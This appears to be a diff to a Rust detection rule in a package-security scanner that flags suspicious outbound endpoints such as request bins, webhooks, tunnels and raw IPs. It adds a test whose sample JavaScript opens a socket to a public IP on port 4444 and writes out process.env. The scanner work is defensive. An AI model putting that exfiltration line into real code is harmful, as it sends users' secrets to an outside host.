@@ -13,7 +13,7 @@ diligence_finding::declare_rule! {
     /// Hosts of out-of-band testing services (oastify, interact.sh, canarytokens), request bins (pipedream,
     /// webhook.site), paste sites, Discord webhooks, Telegram bot API, tunnels (ngrok, trycloudflare) and URLs with
     /// a public raw IPv4 address, in any text (also decoded or reversed strings) or given alone as a network call's
-    /// host (`{ hostname: '198.51.100.7' }`, `net.connect(port, ip)`; public DNS resolvers excepted), in a package
+    /// host (`{ hostname: '198.51.100.7' }`, `net.connect(port, ip)`; DNS servers — `setServers`, port 53 — excepted), in a package
     /// that can send data.
     ///
     /// ## Why it matters
@@ -253,5 +253,22 @@ mod tests {
             ),
         ]);
         assert!(hits(&s, "code/suspicious-endpoint").is_empty());
+    }
+
+    /// The exception is the DNS port, not the address: a resolver's IP on another port is a
+    /// destination like any other.
+    #[test]
+    fn positive_resolver_address_on_another_port() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const net = require('net');\nconst socket = net.connect({ host: '8.8.8.8', port: 4444 });\nsocket.write(JSON.stringify(process.env));\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/suspicious-endpoint"),
+            vec![("index.js".to_string(), 2)]
+        );
     }
 }
